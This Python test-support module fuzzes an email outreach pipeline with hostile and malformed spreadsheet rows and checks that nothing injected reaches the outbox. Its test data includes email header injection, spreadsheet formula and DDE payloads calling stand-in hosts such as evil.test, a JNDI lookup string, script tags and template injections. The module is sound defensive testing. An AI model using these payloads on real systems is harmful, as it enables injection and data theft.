"""Rows as people type them: a corpus of hostile and clumsy cells, hypothesis strategies that
generate more, the whole pipeline run through the real job runner, and the invariants every
run must keep. Shared by ``tests/test_hostile_rows.py``, ``tests/test_fuzz_stages.py`` and
``bench/fuzz.py``.
"""

from __future__ import annotations

import asyncio
import contextlib
import email
import email.policy
from collections.abc import Iterator
from dataclasses import dataclass, field
from email.utils import getaddresses
from pathlib import Path
from typing import Any

from hypothesis import provisional
from hypothesis import strategies as st

from hub.config import Settings
from hub.jobs import JobRunner
from hub.services import build_services
from sheets.cells import BadCell, normalize_email
from sheets.columns import HUB_COLUMNS, HUMAN_TERMINAL_STATUSES, Row
from sheets.local import LocalStore
from tests.emulators.hunter import API_KEY, HunterEmulator
from tests.emulators.serve import serve_in_thread
from tests.store_contract import GoogleHarness, google_sheet_env

# Every stage a job can run over rows (discover needs a SERP provider: tested on its own).
ROW_STAGES = ("enrich", "score", "draft", "send", "followup", "check_replies")

# --- the corpus -----------------------------------------------------------------------------
# Domains the issue found stored as hosts, and more of the same kind: refused at import.
BAD_DOMAINS = [
    "[::1]",
    "[64:ff9b::7f00:1]",
    "ex ample.com",
    "..",
    "http://",
    "127.0.0.1",
    "http://[::1",
    "https://127.0.0.1/contact",
    "gallery.test:8080",
    "javascript:alert(1)",
    "mailto:editor@gallery.test",
    "under_score.test",
    "-dash.test",
    "localhost",
    "\u202egallery.test",
    "gal\u200blery.test",
    "ftp://files.gallery.test",
    "x" * 300 + ".test",
]
# Hand-typed contact_email cells that are not one mailbox: held, never sent to.
BAD_EMAILS = [
    "foo@",
    "a@b",
    "x@y.example, z@w.example",
    "<x@y.example>",
    "mailto:me@y.example",
    "\u202ex@y.example",
    "Bob <bob@y.test>",
    "x@y.test\r\nBcc: victim@else.test",
    "x@[127.0.0.1]",
    "x@127.0.0.1",
    "two words@y.test",
    "x\x0b@y.test",
    "@y.test",
    "x@@y.test",
    '"quoted"@y.test',
    "x@localhost",
]
# Cells a person may type into hub columns of an otherwise good row: never stop a stage.
CLUMSY_CELLS: list[dict[str, str]] = [
    {"followups_sent": "two"},
    {"next_followup_at": "tomorrow"},
    {"da_est": "1e400"},
    {"da_est": "NaN", "serp_rank": "-3"},
    {"email_confidence": "ninety"},
    {"page_title": '=IMPORTXML("http://evil.test", "//a")'},
    {"contact_name": "{{ 7*7 }}"},
    {"contact_name": "{contact_name} {0} %s"},
    {"snippet": "nul\x00byte and \x1b[31mansi"},
    {"snippet": "é" * 50_000, "notes": "\x00" * 3},
    {"keyword": "art\u2028blog"},
    {"contact_name": "\u202eevil"},
    {"contact_name": "é" * 50_000},
    {"notes": '=HYPERLINK("http://x.test")'},
]


def corpus_lines(good: int = 6) -> tuple[list[dict[str, str]], dict[str, str]]:
    """CSV lines (dicts) and, by domain, what each line is: good / bad_domain / bad_email /
    clumsy. Good and clumsy lines must reach the outbox; the others must say why."""
    lines: list[dict[str, str]] = []
    kind: dict[str, str] = {}
    for i in range(good):
        lines.append(
            {"domain": f"good{i}.test", "page_title": f"Gallery {i}", "notes": f"kept {i}"}
        )
        kind[f"good{i}.test"] = "good"
    lines.append(
        {"domain": "typed.test", "page_title": "Typed", "contact_email": "Editor@Typed.TEST"}
    )
    kind["typed.test"] = "good"
    for i, cells in enumerate(CLUMSY_CELLS):
        lines.append({"domain": f"clumsy{i}.test", "page_title": f"Clumsy {i}", **cells})
        kind[f"clumsy{i}.test"] = "clumsy"
    for value in BAD_DOMAINS:
        lines.append({"domain": value, "notes": "bad domain"})
    for i, value in enumerate(BAD_EMAILS):
        lines.append({"domain": f"badmail{i}.test", "page_title": "Bad", "contact_email": value})
        kind[f"badmail{i}.test"] = "bad_email"
    return lines, kind


# --- generated rows -------------------------------------------------------------------------
_SAMPLES = [
    "",
    " ",
    "\x00",
    "\r\n",
    "a\r\nBcc: victim@else.test",
    "\u202e",
    "\u200f\u200e",
    "\ufeff",
    "=1+2",
    '=IMPORTXML("http://x.test","//a")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "{{ 7*7 }}",
    "{contact_name}",
    "{0.__class__}",
    "%(x)s",
    "${jndi:ldap://x.test/a}",
    "<script>alert(1)</script>",
    "two",
    "-1",
    "1e400",
    "NaN",
    "tomorrow",
    "2026-13-45",
    "9" * 30,
]
hostile_text = st.one_of(
    st.sampled_from(_SAMPLES),
    st.text(max_size=30),
    st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Zs"]), max_size=6),
    st.builds(lambda ch, n: ch * n, st.sampled_from("xé\u202e\x00\n"), st.integers(1000, 50_000)),
)
good_domains = st.builds(lambda i: f"site{i}.test", st.integers(0, 30))
# Good values are drawn more often (one_of picks branches evenly): rows must also get through
# to drafting and the outbox, where header injection and bad recipients would show.
domains = st.one_of(
    good_domains, good_domains, st.sampled_from(BAD_DOMAINS), provisional.domains(), hostile_text
)
addresses = st.one_of(
    st.just(""),
    st.just(""),
    st.sampled_from(BAD_EMAILS),
    st.emails(),
    hostile_text,
)
HUB_CELLS = (
    "contact_name",
    "snippet",
    "keyword",
    "followups_sent",
    "next_followup_at",
    "last_sent",
    "da_est",
    "serp_rank",
    "email_confidence",
    "draft_subject",
    "draft_body",
)
rows = st.fixed_dictionaries(
    {
        "domain": domains,
        "contact_email": addresses,
        "page_title": st.one_of(st.sampled_from(["Painted Words", "Gallery Notes"]), hostile_text),
        # A person may only type these; anything else has no stage to answer it.
        "outreach_status": st.sampled_from(["", "pending", "Pending ", "skip", "do_not_contact"]),
        "notes": hostile_text,
    },
    optional={name: hostile_text for name in HUB_CELLS},
)
batches = st.lists(rows, min_size=1, max_size=5)


# --- running the pipeline -------------------------------------------------------------------
@dataclass
class World:
    """Hunter's emulator behind a served port (the enricher's provider in every run)."""

    hunter: HunterEmulator
    url: str

    def settings(self, data_dir: Path, **overrides: Any) -> Settings:
        return Settings(_env_file=None, **self.values(data_dir, **overrides))

    def values(self, data_dir: Path, **overrides: Any) -> dict[str, Any]:
        values: dict[str, Any] = {
            "data_dir": data_dir,
            "hunter_api_key": API_KEY,
            "hunter_api_url": self.url,
            "hunter_rate_per_second": 1000,
            "require_approval": False,
            "sender_name": "Ada",  # the template needs it; rows, not settings, are fuzzed
            "sender_address": "1 Art Lane, Paris",
            "send_gap_seconds": "0",
            "tick_minutes": 0,
        }
        values.update(overrides)
        return values


@contextlib.contextmanager
def hunter_world() -> Iterator[World]:
    hunter = HunterEmulator(per_second=100_000, per_minute=10_000_000)
    with serve_in_thread(hunter.app) as server:
        yield World(hunter, server.url + "/v2")


async def run_stages(settings: Settings, store=None, stages=ROW_STAGES) -> list[dict[str, Any]]:
    """Every stage once, in order, each a real job through the runner; the finished jobs."""
    services = build_services(settings, store=store)
    try:
        runner = JobRunner(services, poll_interval=0.01)
        services.runner = runner
        return [await runner.run_inline(stage, {}) for stage in stages]
    finally:
        if hasattr(services.enricher, "aclose"):
            await services.enricher.aclose()
        services.close()


# --- what must hold after any run -----------------------------------------------------------
ALLOWED_HEADERS = {
    "from",
    "to",
    "subject",
    "date",
    "message-id",
    "in-reply-to",
    "references",
    "list-unsubscribe",
    "list-unsubscribe-post",
    "content-type",
    "content-transfer-encoding",
    "mime-version",
    "x-hub-preview",
}


@dataclass
class Verdict:
    problems: list[str] = field(default_factory=list)
    sent_to: dict[str, str] = field(default_factory=dict)  # hub_id -> To of its preview

    def check(self, ok: bool, what: str) -> None:
        if not ok:
            self.problems.append(what)


def check_outbox(outbox: Path, verdict: Verdict) -> None:
    """Every preview goes to one valid, normalised mailbox, with no injected header."""
    for path in sorted(outbox.glob("*.eml")) if outbox.exists() else []:
        message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        names = {name.lower() for name in message}
        verdict.check(names <= ALLOWED_HEADERS, f"{path.name}: unexpected headers {names}")
        to = getaddresses(message.get_all("To", []))
        verdict.check(len(to) == 1, f"{path.name}: To holds {len(to)} addresses")
        address = to[0][1] if to else ""
        try:
            verdict.check(normalize_email(address) == address, f"{path.name}: To not normalised")
        except BadCell as exc:
            verdict.problems.append(f"{path.name}: To {address!r} is not a mailbox: {exc}")
        subject = str(message.get("Subject", ""))
        verdict.check("\n" not in subject and "\r" not in subject, f"{path.name}: subject breaks")
        verdict.sent_to[path.stem.rsplit("-", 1)[0]] = address


def _valid(address: str) -> bool:
    try:
        normalize_email(address)
    except BadCell:
        return False
    return True


def check_rows(before: dict[str, Row], after: dict[str, Row], verdict: Verdict) -> None:
    """No person's cell changed; every row either reached the outbox or says why; a bad
    hand-typed address is named as such."""
    for hub_id, old in before.items():
        new = after.get(hub_id)
        if new is None:
            verdict.problems.append(f"{hub_id}: row vanished")
            continue
        for name in ("notes", "approved"):
            verdict.check(
                (old.get(name) or "") == (new.get(name) or ""), f"{hub_id}: {name} changed"
            )
        for name in ("contact_email", "draft_subject", "draft_body"):
            if (old.get(name) or "").strip():
                verdict.check(old[name] == new.get(name), f"{hub_id}: person's {name} changed")
        status = (new.get("outreach_status") or "").strip().lower()
        reason = (new.get("hold_reason") or "") + (new.get("last_error") or "")
        if hub_id in verdict.sent_to:
            continue
        verdict.check(
            bool(reason.strip()) or status in HUMAN_TERMINAL_STATUSES,
            f"{hub_id}: stopped at {status!r} with no reason",
        )
        typed = old.get("contact_email") or ""
        if typed.strip() and not _valid(typed) and status not in HUMAN_TERMINAL_STATUSES:
            verdict.check(
                "contact_email" in (new.get("hold_reason") or ""),
                f"{hub_id}: bad contact_email {typed[:40]!r} held without naming the column",
            )
    for hub_id in verdict.sent_to:
        typed = (before.get(hub_id, {}).get("contact_email") or "").strip()
        if typed:
            verdict.check(_valid(typed), f"{hub_id}: a preview went to bad address {typed!r}")


def check_jobs(jobs: list[dict[str, Any]], verdict: Verdict) -> None:
    for job in jobs:
        verdict.check(
            job.get("status") == "completed",
            f"{job.get('job_type')} job {job.get('status')}: {job.get('error')}",
        )


def _verdict(jobs, before: dict[str, Row], after: dict[str, Row], outbox: Path) -> Verdict:
    verdict = Verdict()
    check_jobs(jobs, verdict)
    check_outbox(outbox, verdict)
    check_rows(before, after, verdict)
    return verdict


def run_local(world: World, data_dir: Path, rows: list[dict[str, str]]):
    """Rows appended as the API or a webhook would, on the local store, then every stage:
    ``(verdict, rows after)``."""
    store = LocalStore(data_dir / "prospects.sqlite3")
    store.ensure_schema()
    store.append(rows)
    before = {row["hub_id"]: row for row in store.rows()}
    store.close()
    settings = world.settings(data_dir)
    jobs = asyncio.run(run_stages(settings))
    store = LocalStore(data_dir / "prospects.sqlite3")
    after = {row["hub_id"]: row for row in store.rows()}
    store.close()
    return _verdict(jobs, before, after, settings.outbox_dir), after


def run_google(world: World, servers, data_dir: Path, rows: list[dict[str, str]]):
    """Rows typed into the Google Sheet by a person (no hub_id: the hub gives them one), then
    every stage: ``(verdict, rows after)``."""
    header = ["notes", *HUB_COLUMNS]
    grid = [header] + [[row.get(name, "") for name in header] for row in rows]
    with google_sheet_env(data_dir, grid, servers=servers) as env:
        harness = GoogleHarness(env)
        harness.store.ensure_schema()
        before = {row["hub_id"]: row for row in harness.store.rows()}
        settings = env.settings(**world.values(data_dir))
        jobs = asyncio.run(run_stages(settings, store=harness.store))
        after = {row["hub_id"]: row for row in harness.store.rows()}
    return _verdict(jobs, before, after, settings.outbox_dir), after
